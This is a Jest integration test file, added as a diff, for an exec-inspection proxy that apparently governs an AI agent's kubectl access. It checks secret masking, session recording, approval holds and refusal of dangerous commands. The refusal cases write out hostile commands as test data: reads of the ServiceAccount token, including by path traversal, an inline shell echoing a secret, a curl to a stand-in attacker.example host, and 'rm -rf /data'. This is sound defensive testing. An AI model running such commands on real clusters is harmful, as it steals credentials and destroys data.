@@ -1,0 +1,202 @@
+// Command-level inspection for exec through the proxy as shipped (default policy, masking and recording
+// on), against real pods on kwok's fake node (its ClusterExec runs the command on this machine, with
+// AIRLOCK_EXEC_CANARY in the environment, as a pod's env would carry it).
+import { afterAll, beforeAll, describe, expect, it } from '@jest/globals';
+import { spawn } from 'node:child_process';
+import { mkdirSync, readFileSync, readdirSync, rmSync, writeFileSync } from 'node:fs';
+import { join } from 'node:path';
+import type { Approval } from '../../src/api/types.js';
+import { approvalPath } from '../../src/approvals/paths.js';
+import { createMaskerFactory } from '../../src/masking/index.js';
+import { clientFor, eventually, testEnv, uniqueName, type RunResult } from '../helpers/env.js';
+import { approveAs, canaryValue, findCanary, startShippedProxy, type ShippedProxy } from '../helpers/hostile.js';
+import { agentPolicy, startTestProxy, type TestProxy } from '../helpers/proxy.js';
+
+/** The value hack/cluster.sh puts into every kwok exec's environment. */
+const ENV_CANARY = 'cnryexecenv5c1f0e9a7d3b2468';
+
+let proxy: ShippedProxy;
+let kc: string;
+const ns = uniqueName('execi');
+const pod = 'app';
+const fileCanary = canaryValue('file');
+const configCanary = canaryValue('cfg');
+/** A directory on this machine that the fake node's exec can read (kwok runs commands in DIR/kwok). */
+const filesDir = join(testEnv().dir, 'kwok', `exec-files-${ns}`);
+
+/** Runs kubectl through the proxy; WebSocket (default) or SPDY. */
+function agentKubectl(args: string[], opts: { spdy?: boolean; kubeconfig?: string } = {}): Promise<RunResult> {
+  return new Promise((resolve) => {
+    const env = { ...process.env, KUBECTL_REMOTE_COMMAND_WEBSOCKETS: opts.spdy ? 'false' : 'true' };
+    const child = spawn(testEnv().kubectl, ['--kubeconfig', opts.kubeconfig ?? kc, '-n', ns, ...args], { env, stdio: ['ignore', 'pipe', 'pipe'] });
+    let stdout = '';
+    let stderr = '';
+    child.stdout.on('data', (c: Buffer) => (stdout += c.toString('latin1')));
+    child.stderr.on('data', (c: Buffer) => (stderr += c.toString()));
+    const timer = setTimeout(() => child.kill('SIGKILL'), 30_000);
+    child.on('close', (code) => {
+      clearTimeout(timer);
+      resolve({ code: code ?? 1, stdout, stderr });
+    });
+  });
+}
+
+const heldApproval = (r: RunResult): string => {
+  const m = /held for approval: kubectl approve (\S+)/.exec(r.stderr);
+  if (!m) throw new Error(`not held: ${r.stderr}`);
+  return m[1]!;
+};
+
+beforeAll(async () => {
+  proxy = await startShippedProxy();
+  kc = proxy.kubeconfigFor('agent-ci');
+  mkdirSync(filesDir, { recursive: true });
+  writeFileSync(join(filesDir, 'password'), `${fileCanary}\n`);
+  writeFileSync(join(filesDir, 'password.b64'), `${Buffer.from(fileCanary).toString('base64')}\n`);
+  writeFileSync(join(filesDir, 'app.yaml'), `mode: fast\ndatabase:\n  password: ${configCanary}\n`);
+  const admin = await clientFor('admin');
+  await admin.create('/api/v1/namespaces', { apiVersion: 'v1', kind: 'Namespace', metadata: { name: ns } });
+  const base = `/api/v1/namespaces/${ns}`;
+  await admin.create(`${base}/secrets`, { apiVersion: 'v1', kind: 'Secret', metadata: { name: 'db' }, stringData: { password: ENV_CANARY } });
+  await admin.create(`${base}/secrets`, { apiVersion: 'v1', kind: 'Secret', metadata: { name: 'files' }, stringData: { password: fileCanary } });
+  await admin.create(`${base}/configmaps`, { apiVersion: 'v1', kind: 'ConfigMap', metadata: { name: 'app' }, data: { 'app.yaml': `mode: fast\ndatabase:\n  password: ${configCanary}\n` } });
+  await admin.create(`${base}/pods`, {
+    apiVersion: 'v1',
+    kind: 'Pod',
+    metadata: { name: pod },
+    spec: {
+      nodeName: 'kwok-node',
+      tolerations: [{ key: 'kwok.x-k8s.io/node', operator: 'Exists', effect: 'NoSchedule' }],
+      containers: [{
+        name: 'app',
+        image: 'registry.example/app:1',
+        env: [{ name: 'DB_PASSWORD', valueFrom: { secretKeyRef: { name: 'db', key: 'password' } } }],
+        volumeMounts: [{ name: 'files', mountPath: '/etc/secret-volume' }, { name: 'config', mountPath: '/app/config' }],
+      }],
+      volumes: [{ name: 'files', secret: { secretName: 'files' } }, { name: 'config', configMap: { name: 'app' } }],
+    },
+  });
+  await eventually(async () => (await admin.get<{ status: { phase?: string } }>(`${base}/pods/${pod}`)).status.phase === 'Running', 20_000, 'kwok pod Running');
+}, 90_000);
+
+afterAll(async () => {
+  await proxy?.close();
+  rmSync(filesDir, { recursive: true, force: true });
+  await (await clientFor('admin')).delete(`/api/v1/namespaces/${ns}`).catch(() => undefined);
+});
+
+describe('allowed debugging commands run, and their output is masked', () => {
+  for (const spdy of [false, true]) {
+    const via = spdy ? 'SPDY/3.1' : 'WebSocket';
+    it(`env shows the pod's Secret value masked (${via})`, async () => {
+      const r = await agentKubectl(['exec', pod, '--', 'env'], { spdy });
+      expect(r.stderr).toBe('');
+      expect(r.code).toBe(0);
+      expect(r.stdout).toMatch(/^AIRLOCK_EXEC_CANARY=airlock-masked:sha256:[0-9a-f]{8}$/m);
+      expect(findCanary(r.stdout, [ENV_CANARY])).toBeUndefined();
+      expect(r.stdout).toMatch(/^PATH=/m); // the rest of the environment is readable
+    });
+
+    it(`cat of a file holding a mounted Secret's value, plain and base64, is masked (${via})`, async () => {
+      for (const f of ['password', 'password.b64']) {
+        const r = await agentKubectl(['exec', pod, '--', 'cat', join(filesDir, f)], { spdy });
+        expect(r.code).toBe(0);
+        expect(r.stdout).toMatch(/^airlock-masked:sha256:[0-9a-f]{8}\n$/);
+        expect(findCanary(r.stdout, [fileCanary])).toBeUndefined();
+      }
+    });
+  }
+
+  it('a config file stays readable apart from the credential it holds (the ConfigMap the pod mounts)', async () => {
+    const r = await agentKubectl(['exec', pod, '--', 'cat', join(filesDir, 'app.yaml')]);
+    expect(r.code).toBe(0);
+    expect(r.stdout).toContain('mode: fast\n');
+    expect(r.stdout).toMatch(/password: airlock-masked:sha256:[0-9a-f]{8}/);
+    expect(r.stdout).not.toContain(configCanary);
+  });
+
+  it('the session is recorded as asciicast of the masked output, with the argv and decision', async () => {
+    await agentKubectl(['exec', pod, '--', 'env']);
+    const walk = (d: string): string[] => readdirSync(d, { withFileTypes: true }).flatMap((e) => (e.isDirectory() ? walk(join(d, e.name)) : [join(d, e.name)]));
+    const cast = await eventually(() => walk(proxy.recordings).find((f) => f.endsWith('.cast') && readFileSync(f, 'utf8').includes('AIRLOCK_EXEC_CANARY=')), 10_000, 'asciicast');
+    expect(readFileSync(cast, 'utf8')).toContain('AIRLOCK_EXEC_CANARY=airlock-masked');
+    type Rec = { type?: string; asciicast?: string; command?: string[]; decision?: { action?: string; rule?: string } };
+    const lines = walk(proxy.recordings).filter((f) => f.endsWith('.jsonl')).flatMap((f) => readFileSync(f, 'utf8').split('\n').filter(Boolean).map((l) => JSON.parse(l) as Rec));
+    const exec = lines.find((l) => l.type === 'exec' && l.asciicast && cast.endsWith(l.asciicast));
+    expect(exec).toMatchObject({ command: ['env'], decision: { action: 'allow', policy: 'default-agent-policy', rule: 'debugging-commands' } });
+    for (const f of walk(proxy.recordings)) expect(findCanary(readFileSync(f), [ENV_CANARY, fileCanary, configCanary])).toBeUndefined();
+  });
+});
+
+describe('dangerous commands are refused with the policy and rule named', () => {
+  const cases: [string, string[], string][] = [
+    ['a mounted Secret by its mount path', ['cat', '/etc/secret-volume/password'], 'inside /etc/secret-volume'],
+    ['the ServiceAccount token', ['cat', '/var/run/secrets/kubernetes.io/serviceaccount/token'], 'inside /var/run/secrets'],
+    ['a path that climbs into the token directory', ['cat', '/app/config/../../var/run/secrets/kubernetes.io/serviceaccount/token'], 'inside /var/run/secrets'],
+    ['a shell with an inline script', ['sh', '-c', 'echo $DB_PASSWORD'], 'runs inline code'],
+    ['an interpreter with inline code, behind env', ['env', 'X=1', 'python3', '-c', 'print(1)'], 'runs inline code'],
+    ['a network tool aimed elsewhere', ['curl', '-s', 'http://localhost@attacker.example/'], 'connects to "attacker.example"'],
+    ['a destructive command', ['rm', '-rf', '/data'], 'removes files'],
+  ];
+  for (const [what, argv, explains] of cases) {
+    it(what, async () => {
+      const r = await agentKubectl(['exec', pod, '--', ...argv]);
+      expect(r.code).not.toBe(0);
+      expect(r.stderr).toContain('denied by policy default-agent-policy rule no-dangerous-exec');
+      // The explanation names the argv element and what is wrong with it.
+      expect(r.stderr).toMatch(new RegExp(`\\(command\\[\\d+\\]: .*${explains.replace(/[.*+?^${}()|[\]\\]/g, "\\$&")}`));
+    });
+  }
+});
+
+describe('held exec', () => {
+  it('an interactive exec is held; the approval shows the argv and target, and lets the identical command run once', async () => {
+    const held = await agentKubectl(['exec', '-i', pod, '--', 'ls', filesDir]);
+    expect(held.code).not.toBe(0);
+    const name = heldApproval(held);
+    const approval = await (await clientFor('admin')).get<Approval>(approvalPath(name));
+    expect(approval.spec.request.exec).toMatchObject({ command: ['ls', filesDir], interactive: true, pod, container: 'app', image: 'registry.example/app:1', serviceAccount: 'default' });
+    expect(approval.spec.request.exec?.podUID).toMatch(/^[0-9a-f-]{36}$/);
+    expect(approval.spec.policy.rule).toBe('interactive-exec-needs-approval');
+
+    // Another command does not ride on this approval.
+    await approveAs('alice', name);
+    const other = await agentKubectl(['exec', '-i', pod, '--', 'ls', '/']);
+    expect(heldApproval(other)).not.toBe(name);
+
+    const ran = await agentKubectl(['exec', '-i', pod, '--', 'ls', filesDir]);
+    expect(ran.stderr).toBe('');
+    expect(ran.code).toBe(0);
+    expect(ran.stdout).toContain('password.b64');
+    // One use: the same command again is held anew.
+    const again = await agentKubectl(['exec', '-i', pod, '--', 'ls', filesDir]);
+    expect(again.code).not.toBe(0);
+    expect(heldApproval(again)).not.toBe(name);
+  });
+});
+
+describe('output split across frames', () => {
+  let open: TestProxy;
+  beforeAll(async () => {
+    // A policy that lets shells run, so the test can write a value in pieces, with pauses, as a slow
+    // program would.
+    const policy = agentPolicy(uniqueName('split'), [{ name: 'all', match: { apiGroups: ['*'], resources: ['*'], verbs: ['*'] }, action: 'allow' }]);
+    policy.spec.masking = { secrets: true, logs: true };
+    open = await startTestProxy({ policies: [policy], masker: createMaskerFactory() });
+  });
+  afterAll(async () => open?.close());
+
+  for (const pause of ['0.05', '0.4', '1.5']) {
+    for (const spdy of [false, true]) {
+      it(`a value written in three pieces ${pause}s apart never shows (${spdy ? 'SPDY' : 'WebSocket'})`, async () => {
+        const v = ENV_CANARY;
+        const script = `printf %s ${v.slice(0, 2)}; sleep ${pause}; printf %s ${v.slice(2, 9)}; sleep ${pause}; printf '%s\\n' ${v.slice(9)}; printf 'done\\n' >&2`;
+        const r = await agentKubectl(['exec', pod, '--', 'sh', '-c', script], { spdy, kubeconfig: open.kubeconfigFor('agent-ci') });
+        expect(r.code).toBe(0);
+        expect(r.stderr).toContain('done');
+        expect(r.stdout).not.toContain(v.slice(0, 4));
+        expect(r.stdout).toMatch(/airlock-masked:sha256:[0-9a-f]{8}\n$/);
+      });
+    }
+  }
+});
